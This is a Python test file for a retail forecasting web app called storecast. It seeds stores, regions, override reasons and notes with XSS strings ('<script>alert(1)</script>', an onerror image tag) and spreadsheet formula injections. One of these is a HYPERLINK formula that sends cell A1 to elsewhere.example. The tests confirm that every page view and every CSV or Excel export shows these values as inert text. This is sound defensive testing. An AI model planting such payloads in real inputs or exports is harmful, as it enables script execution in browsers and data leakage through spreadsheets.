"""Stores, regions, reasons and notes named like scripts and formulas: shown as they are, run nowhere, and text in every file."""

import csv
import io
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import openpyxl
import polars as pl
import pytest
from playwright.sync_api import Page, expect

from storecast import schema as s
from storecast.bundle.loading import load
from storecast.bundle.registry import promote
from storecast.data.breakdown import Breakdown, StoreGroup
from storecast.data.panel import Panel
from storecast.database.connect import Database, home_url
from storecast.database.forecasts import MadeForecast
from storecast.database.plan_comments import add_comment
from storecast.database.plan_overrides import add_overrides, change_reasons
from storecast.database.plan_publishing import publish_version
from storecast.page.addresses import VIEW_NAMES
from support.chromium import DRAWN, listen, person, started_chromium
from support.panels import make_panel
from support.served_home import DAYS, FIRST, HORIZON, fill, make_key, served_process, train

pytestmark = pytest.mark.page
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1;"look")'
NAMES = {1: SCRIPT, 2: FORMULA, 3: IMAGE, 4: "@SUM(1)", 5: "+1", 6: '"><b>'}
PARTS = ("grid&level=store", "overrides", "moves", "queue", "versions", "files")


def chain() -> Panel:
    """Return a chain whose stores and regions have such names."""
    panel = make_panel(days=DAYS, ahead=HORIZON)
    name = pl.col(s.STORE).replace_strict(NAMES, return_dtype=pl.String)
    sales, stores, calendar = (
        each.with_columns(name).sort(*(key for key in s.KEYS if key in each.columns))
        for each in (panel.sales, panel.stores, panel.calendar)
    )
    regions = StoreGroup("Region", {store: (SCRIPT, FORMULA)[number % 2] for number, store in NAMES.items()})
    named = stores.with_columns(pl.lit(IMAGE).alias(s.STATE))
    return replace(panel, sales=sales, stores=named, calendar=calendar, breakdown=Breakdown((regions,), ("month",)))


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """Open the page of such a chain, whose plan has overrides with such reasons and notes."""
    home, config = tmp_path_factory.mktemp("names") / "home", str(tmp_path_factory.mktemp("config"))
    panel = chain()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", config)
        name = train("linear", panel, home)
        promote(home / "models", name)
        fill(home_url(home), panel)
        rows = load(home / "models" / name).forecast(panel).rows
    with closing(Database.open(home_url(home))) as database, database.begin() as conn:
        change_reasons(conn, [SCRIPT, FORMULA])
        less = rows.with_columns((pl.col(s.FORECAST) * 0.9).round(2))
        for number, forecast in enumerate((less, rows)):
            publish_version(conn, MadeForecast(f"{number}.pkl", panel.end, 1, forecast), None, by=SCRIPT, note=IMAGE)
        span = {"first": FIRST, "last": FIRST, "kind": "figure", "value": 5.0}
        overrides = [
            {"level": "store", "key": SCRIPT, **span, "reason": SCRIPT, "note": IMAGE},
            {"level": "Region", "key": FORMULA, **span, "reason": FORMULA, "note": FORMULA},
        ]
        add_overrides(conn, pl.DataFrame(overrides), by=FORMULA)
        add_comment(conn, SCRIPT, by=SCRIPT, store=FORMULA)
    token = make_key(home_url(home), "admin")
    with (
        served_process(home, XDG_CONFIG_HOME=config) as (_, port),
        started_chromium() as process,
        person(process, f"http://127.0.0.1:{port}", token) as opened,
    ):
        yield opened


def test_names_that_are_scripts_are_text_in_every_view_and_names_that_are_formulas_in_every_file(page: Page) -> None:
    wrong, addresses = listen(page)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    base = page.url.rstrip("/")
    queries = [f"store?store={quote(name)}" for name in NAMES.values()]
    queries += [f"plan?part={part}" for part in PARTS]
    queries.append("explore?question=stores")
    shown = ""
    for query in (*VIEW_NAMES, *queries):
        page.goto(f"{base}/{query}")
        page.wait_for_selector(DRAWN)
        page.wait_for_load_state("networkidle")
        assert page.locator("#view script, #view img, #view b").count() == 0, query
        shown += page.locator("#view").inner_text()
    assert dialogs == []
    assert wrong == []
    assert [
        address for address in addresses if not address.startswith((base.removesuffix("/app"), "data:", "blob:"))
    ] == []
    assert all(f"Store {name}" in shown for name in NAMES.values())
    assert shown.count(IMAGE) > 2, "notes of overrides and versions"
    _check_files(page, base)


def _check_files(page: Page, base: str) -> None:
    """Look for a cell that a spreadsheet would run in each file of the plan and of the promotions."""
    buttons = {
        "Days as CSV": "files",
        "Days as Excel": "files",
        "Workbook to fill in": "files",
        "Download the tables of this view as Excel": "overrides",
    }
    for button, part in buttons.items():
        page.goto(f"{base}/plan?part={part}")
        with page.expect_download() as download:
            page.get_by_role("button", name=button).click()
        content = Path(download.value.path()).read_bytes()
        if button == "Days as CSV":
            cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
            assert f"'{FORMULA}" in cells
            assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
            continue
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert all(any(name in cell.value for cell in texts) for name in (FORMULA, SCRIPT)), button
        of_names = [cell for cell in texts if FORMULA in cell.value]
        assert {cell.data_type for cell in of_names} == {"s"}, button
        assert not [cell for cell in of_names if cell.hyperlink], button


def test_a_long_grid_prints_all_of_its_rows_with_names_as_text(page: Page) -> None:
    page.goto(f"{page.url.partition('/app/')[0]}/app/plan?level=store")
    page.wait_for_selector(".ag-cell")
    page.evaluate(
        """name => {
            const first = dash_ag_grid.getApi("plan-grid").getDisplayedRowAtIndex(0).data;
            const rowData = Array.from({ length: 120 }, (_, place) => ({ ...first, name: name + place }));
            const dashGridOptions = { domLayout: "normal" };
            dash_clientside.set_props("plan-grid", { rowData, dashGridOptions, style: { height: "300px" } });
        }""",
        SCRIPT,
    )
    expect(page.locator("#plan-grid").get_by_text(f"{SCRIPT}0", exact=True)).to_be_visible()
    expect(page.locator("#plan-grid [row-index='119']")).to_have_count(0)  # it draws what its window shows
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    rows = page.locator(".printed tbody tr")
    expect(rows).to_have_count(121)  # and the sum
    expect(rows.nth(99).locator("td").first).to_have_text(f"{SCRIPT}99")
    expect(rows.nth(99)).to_be_visible()
    expect(page.locator("#plan-grid")).to_be_hidden()
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    page.emulate_media(media="screen")
    expect(page.locator(".printed")).to_have_count(0)
    expect(page.locator("#plan-grid")).to_be_visible()
